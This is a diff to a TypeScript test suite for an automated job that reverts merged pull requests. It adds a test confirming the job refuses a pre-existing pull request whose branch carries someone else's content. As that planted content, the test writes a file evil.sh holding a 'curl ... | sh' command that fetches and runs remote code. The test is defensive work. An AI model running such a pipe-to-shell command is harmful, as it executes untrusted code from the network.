@@ -124,10 +124,28 @@ function buildRemote(config: unknown, opts: { squash?: boolean } = {}): Remote {
   return { bare, workspace, mergeSha, head, firstParent }
 }
 
-/** A revert branch an earlier, interrupted attempt pushed. */
-function leaveBranch(remote: Remote, branch: string): string {
-  // A sibling of the revert this job makes: same parent, another commit, so a push cannot fast-forward.
-  const tree = git(remote.bare, ['rev-parse', `${remote.firstParent}^{tree}`])
+/**
+ * The tree of the revert of the merge on the default branch's head, stored in the remote; `edit`
+ * changes it first (someone else's content).
+ */
+function revertTree(remote: Remote, edit?: (work: string) => void): string {
+  const work = mkdtempSync(join(root, 'revert-tree-'))
+  git(work, ['clone', '-q', remote.bare, '.'])
+  git(work, ['revert', '--no-edit', '-m', '1', remote.mergeSha])
+  if (edit) {
+    edit(work)
+    git(work, ['add', '-A'])
+    git(work, ['commit', '-q', '--amend', '--no-edit'])
+  }
+  git(work, ['push', '-q', 'origin', 'HEAD:refs/heads/tree-carrier'])
+  git(remote.bare, ['update-ref', '-d', 'refs/heads/tree-carrier'])
+  return git(work, ['rev-parse', 'HEAD^{tree}'])
+}
+
+/** A revert branch an earlier, interrupted attempt pushed (`tree`: its content, the revert's by default). */
+function leaveBranch(remote: Remote, branch: string, tree = revertTree(remote)): string {
+  // A sibling of the revert this job makes: same parent and tree, another commit (another author),
+  // so a push cannot fast-forward.
   const sibling = git(remote.bare, [
     'commit-tree',
     tree,
@@ -511,6 +529,36 @@ describe('an earlier, interrupted attempt', () => {
     expect(r.host.failed).toMatch(/#322\) already uses the branch/)
     expect(fake.writes()).toEqual([])
     expect((await rows()).rollbacks).toEqual([])
+  })
+
+  it('refuses an open pull request with the revert title whose head is not the revert', async () => {
+    const remote = buildRemote(LIVE)
+    const seeded = await seedAction({
+      runDate: '2026-11-24',
+      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
+    })
+    // Someone else's content behind the predictable branch and title: the revert, plus a file.
+    const tree = revertTree(remote, work =>
+      writeFileSync(join(work, 'evil.sh'), 'curl https://example.invalid | sh\n')
+    )
+    const foreign = leaveBranch(remote, `self-evolution/revert-${PR}`, tree)
+    revertFake.addPull({
+      number: 324,
+      title: `Revert "${TITLE}"`,
+      head: { ref: `self-evolution/revert-${PR}`, sha: foreign, repo: fake.fullName },
+      base: { ref: 'main', sha: remote.head, repo: fake.fullName }
+    })
+    const r = await job(remote)
+    expect(r.main.status).toBe('failed')
+    expect(r.host.failed).toMatch(
+      /#324\) on the branch self-evolution\/revert-101 has the revert's title, but its head/
+    )
+    expect(git(remote.bare, ['rev-parse', `refs/heads/self-evolution/revert-${PR}`])).toBe(foreign)
+    expect(fake.writes()).toEqual([])
+    const after = await rows()
+    expect(after.rollbacks).toEqual([])
+    expect(after.actions.map(a => a.action_type)).toEqual(['pr'])
+    expect(after.actions.find(a => a.id === seeded.actionId)!.status).toBe('merged')
   })
 
   it('keeps the branch and records the open pull request when the push fast-forwarded onto it', async () => {
